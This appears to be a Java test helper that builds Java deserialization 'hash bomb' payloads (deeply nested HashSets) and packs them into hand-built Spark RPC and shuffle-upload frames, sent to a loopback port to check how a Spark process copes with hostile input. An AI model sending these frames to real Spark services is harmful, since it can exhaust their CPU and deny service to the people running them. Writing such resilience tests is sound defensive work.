package io.kinespark.spark.cluster;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import org.apache.spark.network.shuffle.protocol.UploadBlock;

/** What whoever reaches a port of Spark's may send: objects that take for ever to read. */
final class HostileFrames {
  private static final int DEPTH = 28;
  private static final byte REQUEST = 3;
  private static final byte ONE_WAY = 9;
  private static final int ANSWER_MILLIS = 1_000;

  private HostileFrames() {}

  /** Sends every frame to a port of this machine, over a connection each. */
  static void sendTo(int port) throws IOException {
    for (byte[] frame : List.of(request(rpc()), oneWay(rpc()), request(upload()))) {
      try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
        socket.setSoTimeout(ANSWER_MILLIS);
        socket.getOutputStream().write(frame);
        socket.getOutputStream().flush();
        socket.getInputStream().readNBytes(1);
      } catch (java.net.SocketException | java.net.SocketTimeoutException e) {
        // Closed by the other side, or kept open without an answer: the load of the process tells
        // more.
      }
    }
  }

  /** Sets in sets, whose hash takes 2^28 steps. */
  static byte[] bomb() throws IOException {
    Set<Object> root = new HashSet<>();
    Set<Object> left = root;
    Set<Object> right = new HashSet<>();
    for (int level = 0; level < DEPTH; level++) {
      Set<Object> nextLeft = new HashSet<>();
      Set<Object> nextRight = new HashSet<>();
      nextLeft.add("mark");
      left.add(nextLeft);
      left.add(nextRight);
      right.add(nextLeft);
      right.add(nextRight);
      left = nextLeft;
      right = nextRight;
    }
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
      out.writeObject(root);
    }
    return bytes.toByteArray();
  }

  /** A message of Spark's RPC: no sender, an endpoint that every driver has, and the object. */
  private static byte[] rpc() throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    DataOutputStream out = new DataOutputStream(bytes);
    out.writeBoolean(false);
    out.writeBoolean(false);
    out.writeUTF("endpoint-verifier");
    out.write(bomb());
    return bytes.toByteArray();
  }

  private static byte[] upload() throws IOException {
    ByteBuffer message =
        new UploadBlock("app", "driver", "rdd_0_0", bomb(), new byte[1]).toByteBuffer();
    byte[] bytes = new byte[message.remaining()];
    message.get(bytes);
    return bytes;
  }

  private static byte[] request(byte[] body) throws IOException {
    ByteArrayOutputStream header = new ByteArrayOutputStream();
    new DataOutputStream(header).writeLong(1);
    return frame(REQUEST, header.toByteArray(), body);
  }

  private static byte[] oneWay(byte[] body) throws IOException {
    return frame(ONE_WAY, new byte[0], body);
  }

  private static byte[] frame(byte type, byte[] header, byte[] body) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    DataOutputStream out = new DataOutputStream(bytes);
    out.writeLong(Long.BYTES + 1L + header.length + Integer.BYTES + body.length);
    out.writeByte(type);
    out.write(header);
    out.writeInt(body.length);
    out.write(body);
    return bytes.toByteArray();
  }
}
